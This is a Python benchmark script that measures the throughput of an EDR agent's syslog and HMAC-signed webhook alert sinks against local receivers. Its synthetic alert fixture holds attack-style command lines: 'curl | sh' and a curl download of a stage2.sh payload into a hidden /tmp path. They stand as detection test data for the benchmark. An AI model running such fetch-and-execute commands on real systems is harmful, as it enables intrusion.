#!/usr/bin/env python3
"""Benchmark the alert sinks: alerts/s through syslog and webhook to local receivers, and the hash chain's cost.

Each sink figure is end to end: ``--count`` alerts (Sigma-style alerts on
process creations, about 1.4 KB of ECS JSON each) go into the sink actor
(:class:`edr.alerts.sinks.actor.SinkActor`, built from its configuration
section as the agent builds it) over a ``block`` edge in batches of
``--batch``; the actor maps each to its ECS document with its ``event.id``,
encodes it, stores it in the disk spool (a temporary directory) and delivers
it (fed ECS documents already mapped, ``--input documents``, it skips the
mapping: what it would do fed from the alert writer's output); the clock
stops when the actor has ended with every alert delivered and acknowledged
(syslog over TCP: confirmed by the receiver's close after our end of
stream; webhook: a 2xx for each batch). The receivers run in processes of
their own, so they do not share the agent's interpreter:

- syslog: a TCP server that parses RFC 6587 octet-counted frames and counts
  them (what rsyslog's imtcp does before its queue);
- webhook: an ``http.server`` HTTP/1.1 server that checks every body's
  ``X-Edr-Signature`` (HMAC-SHA256) and counts the NDJSON documents.

Each sink line also gives alerts per CPU-second of the agent's process (all
its threads; the receivers' excluded): on a host shared with other work,
that is the figure that does not depend on how much of the CPU it got.

The receiver's own count is checked against ``--count``; a run that loses or
duplicates anything fails. The chain figure is :meth:`AlertChain.seal`
minus :func:`dumps_line` per alert (:mod:`edr.alerts.chain`), best of
``--repeat``.

    python3 scripts/bench_sinks.py
    python3 scripts/bench_sinks.py --count 100000 --sinks syslog
"""

from __future__ import annotations

import argparse
import hmac
import http.server
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "src"))

import trio  # noqa: E402

from edr.alerts.chain import AlertChain  # noqa: E402
from edr.alerts.ecs import HostInfo, alert_document  # noqa: E402
from edr.alerts.ndjson import dumps_line  # noqa: E402
from edr.alerts.sinks.actor import SinkActor  # noqa: E402
from edr.alerts.sinks.build import build_syslog, build_webhook  # noqa: E402
from edr.config import SyslogConfig, WebhookConfig  # noqa: E402
from edr.detect.alert import Alert  # noqa: E402
from edr.event import Event  # noqa: E402
from edr.runtime.actor import Ports  # noqa: E402
from edr.runtime.buffer import Policy  # noqa: E402
from edr.runtime.channel import Edge, InPort  # noqa: E402

SECRET = b"bench-secret-0123456789abcdef0123"
T0 = 1_772_359_200.0
HOST = HostInfo("bench-host", "linux")


def make_alert(i: int) -> Alert:
    """A Sigma-style alert on a process creation; every one distinct."""
    pid = 4000 + i
    event = Event(category="process_creation", product="linux", timestamp=T0 + i * 0.001, seq=i, fields={
        "ProcessId": pid, "Image": "/usr/bin/curl", "ParentProcessId": 900 + pid % 50,
        "ParentImage": "/usr/bin/bash", "ParentCommandLine": "bash -c 'curl | sh'",
        "CommandLine": f"curl -s http://203.0.113.{i % 250}/stage2.sh -o /tmp/.x{i}",
        "CurrentDirectory": "/var/www/html", "User": "www-data", "Uid": 33, "Gid": 33,
        "ProcessStartTime": 123456 + i, "CgroupPath": "/system.slice/nginx.service", "Comm": "curl"})
    return Alert(rule_id="3f2c9a71-5d83-4f6b-8e0a-2b7d9c1f3e45", rule_name="Download to /tmp by a web server shell",
                 severity="high", engine="sigma", event=event,
                 tags=("attack.command-and-control", "attack.t1105", "attack.execution"),
                 description="A shell spawned by a web server downloads a file into a hidden path under /tmp.",
                 ecs={"threat.technique.id": ["T1105"], "threat.framework": "MITRE ATT&CK"})


# -- receivers (run as ``bench_sinks.py --serve KIND``, in their own process) ------------------------------------


def serve_syslog() -> None:
    """Count octet-counted frames on every TCP connection; print the total at each end of stream."""
    server = socket.create_server(("127.0.0.1", 0))
    print(server.getsockname()[1], flush=True)
    total = 0
    lock = threading.Lock()

    def handle(conn: socket.socket) -> None:
        nonlocal total
        buf = b""
        frames = 0
        with conn:
            while True:
                data = conn.recv(1 << 20)
                if not data:
                    break
                buf += data
                pos = 0
                while True:
                    space = buf.find(b" ", pos, pos + 8)
                    if space < 0:
                        break
                    end = space + 1 + int(buf[pos:space])
                    if end > len(buf):
                        break
                    frames += 1
                    pos = end
                buf = buf[pos:]
            with lock:
                total += frames
                print(total, flush=True)
            conn.shutdown(socket.SHUT_WR)  # our close after theirs: the sink's proof that we read everything

    while True:
        conn, _ = server.accept()
        threading.Thread(target=handle, args=(conn,), daemon=True).start()


def serve_webhook() -> None:
    """Accept every correctly signed POST and count its NDJSON documents; GET answers the count."""
    count = 0
    lock = threading.Lock()

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            nonlocal count
            data = self.rfile.read(int(self.headers["Content-Length"]))
            expected = "sha256=" + hmac.digest(SECRET, data, "sha256").hex()
            ok = hmac.compare_digest(expected, self.headers.get("X-Edr-Signature", ""))
            if ok:
                with lock:
                    count += data.count(b"\n")
            self._answer(200 if ok else 401, b"")

        def do_GET(self) -> None:
            self._answer(200, str(count).encode())

        def _answer(self, status: int, body: bytes) -> None:
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    print(server.server_address[1], flush=True)
    server.serve_forever()


class Receiver:
    """A receiver process of this script; its port, and its stdout lines."""

    def __init__(self, kind: str) -> None:
        self.proc = subprocess.Popen([sys.executable, __file__, "--serve", kind], stdout=subprocess.PIPE, text=True)
        assert self.proc.stdout is not None
        self.port = int(self.proc.stdout.readline())

    def next_line(self) -> int:
        assert self.proc.stdout is not None
        return int(self.proc.stdout.readline())

    def stop(self) -> None:
        self.proc.kill()
        self.proc.wait()


# -- the sinks -------------------------------------------------------------------------------------------------


async def feed(actor: SinkActor, alerts: list[Any], batch: int) -> float:
    """Run ``actor`` on ``alerts`` sent in batches of ``batch``; seconds until it ended (everything delivered)."""
    edge = Edge("bench->sink", 64, Policy.BLOCK)
    port = InPort("in")
    port.attach(edge)
    start = time.perf_counter()
    async with trio.open_nursery() as nursery:
        nursery.start_soon(actor.run, Ports({"in": port}, {}))
        for i in range(0, len(alerts), batch):
            await edge.send(alerts[i:i + batch])
        edge.close()
    return time.perf_counter() - start


def bench_sink(kind: str, alerts: list[Any], batch: int, log: Any) -> tuple[float, dict[str, Any]]:
    """Alerts/s through the ``kind`` sink to its receiver, and the actor's statistics."""
    receiver = Receiver(kind)
    try:
        with tempfile.TemporaryDirectory(prefix="edr-bench-sinks-") as tmp:
            os.chmod(tmp, 0o700)
            if kind == "syslog":
                cfg = SyslogConfig(targets=[f"tcp://127.0.0.1:{receiver.port}"], spool_directory=f"{tmp}/spool",
                                   drain_secs=600.0)
                actor = build_syslog(cfg, "agent", "syslog", log, HOST)
            else:
                secret = Path(tmp) / "secret"
                secret.write_bytes(SECRET)
                secret.chmod(0o600)
                cfg = WebhookConfig(urls=[f"http://127.0.0.1:{receiver.port}/alerts"], secret_file=str(secret),
                                    spool_directory=f"{tmp}/spool", drain_secs=600.0)
                actor = build_webhook(cfg, "agent", "webhook", log, HOST)
            cpu = time.process_time()
            seconds = trio.run(feed, actor, alerts, batch)
            cpu = time.process_time() - cpu
        stats = actor.statistics()
        if kind == "syslog":
            # one line per connection that ended (each a running total): the last is the count
            for _ in range(actor.destinations[0].connections):  # type: ignore[attr-defined]
                received = receiver.next_line()
        else:
            with socket.create_connection(("127.0.0.1", receiver.port)) as s:
                s.sendall(b"GET /count HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                received = int(s.makefile("rb").read().rsplit(b"\r\n\r\n", 1)[1])
    finally:
        receiver.stop()
    if stats["sent"] != len(alerts) or received != len(alerts):
        raise SystemExit(f"{kind}: {len(alerts)} alerts, {stats['sent']} acknowledged, {received} received: {stats}")
    stats["cpu_seconds"] = cpu
    return len(alerts) / seconds, stats


def best_us(repeat: int, run: Any, count: int) -> float:
    times = []
    for _ in range(repeat):
        start = time.perf_counter()
        run()
        times.append(time.perf_counter() - start)
    return min(times) / count * 1e6


def main(argv: list[str] | None = None) -> int:
    """Run the benchmark and print one line per figure."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--count", type=int, default=50_000, help="alerts per sink run (default 50000)")
    parser.add_argument("--batch", type=int, default=256, help="alerts per batch on the edge (default 256)")
    parser.add_argument("--repeat", type=int, default=3, help="runs per figure; the best is reported (default 3)")
    parser.add_argument("--sinks", default="syslog,webhook", help="comma-separated: syslog, webhook")
    parser.add_argument("--input", choices=("alerts", "documents", "both"), default="both",
                        help="what the sink is fed: alerts (it maps each to ECS, as today from detect.alerts), "
                             "documents (ECS documents already mapped, as a writer's output port would give it), "
                             "or both figures (default)")
    parser.add_argument("--serve", choices=("syslog", "webhook"), help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.serve == "syslog":
        serve_syslog()
    if args.serve == "webhook":
        serve_webhook()

    import logging
    logging.basicConfig(level=logging.WARNING, format="%(levelname)s %(message)s")
    log = logging.getLogger("bench")
    alerts = [make_alert(i) for i in range(args.count)]
    size = sum(len(dumps_line(alert_document(a, HOST))) for a in alerts[:1000]) / 1000
    print(f"{args.count} alerts per run, {size:.0f} bytes of ECS JSON each, batches of {args.batch}, "
          f"best of {args.repeat}")
    inputs: dict[str, list[Any]] = {}
    if args.input in ("alerts", "both"):
        inputs["alerts"] = alerts
    if args.input in ("documents", "both"):
        inputs["documents"] = [alert_document(a, HOST) for a in alerts]
    for kind in [k.strip() for k in args.sinks.split(",") if k.strip()]:
        for what, items in inputs.items():
            runs = [bench_sink(kind, items, args.batch, log) for _ in range(args.repeat)]
            rate, stats = max(runs, key=lambda r: r[0])
            extra = f", {stats['destinations'][next(iter(stats['destinations']))].get('requests', 0)} requests" \
                if kind == "webhook" else ""
            per_cpu = len(items) / min(s["cpu_seconds"] for _, s in runs)
            print(f"  {kind:8s} from {what:9s} {rate:10,.0f} alerts/s, {per_cpu:10,.0f} per CPU-second of the agent  "
                  f"(runs: {', '.join(f'{r:,.0f}' for r, _ in runs)}; sent {stats['sent']}, "
                  f"failed {stats['failed']}, lost {stats['lost']}{extra})")

    # Short runs, many of them, the three figures interleaved: on a shared host the best of each is what the
    # code costs, not what the other processes took meanwhile.
    docs = [alert_document(a, HOST) for a in alerts[:5_000]]
    figures: dict[str, list[float]] = {"base": [], "sha": [], "mac": []}
    for _ in range(max(args.repeat, 15)):
        figures["base"].append(best_us(1, lambda: _serialize_all(docs), len(docs)))
        figures["sha"].append(best_us(1, lambda: _seal_all(AlertChain(), docs), len(docs)))
        figures["mac"].append(best_us(1, lambda: _seal_all(AlertChain(key=SECRET), docs), len(docs)))
    base, sha, mac = (min(figures[k]) for k in ("base", "sha", "mac"))
    print(f"  chain    serialize {base:.2f} us/alert; seal sha256 {sha:.2f} us (chain cost {sha - base:.2f} us), "
          f"seal hmac {mac:.2f} us (chain cost {mac - base:.2f} us)")
    return 0


def _serialize_all(docs: list[dict[str, Any]]) -> None:
    for d in docs:
        dumps_line(dict(d))


def _seal_all(chain: AlertChain, docs: list[dict[str, Any]]) -> None:
    for d in docs:
        chain.seal(dict(d))


if __name__ == "__main__":
    sys.exit(main())
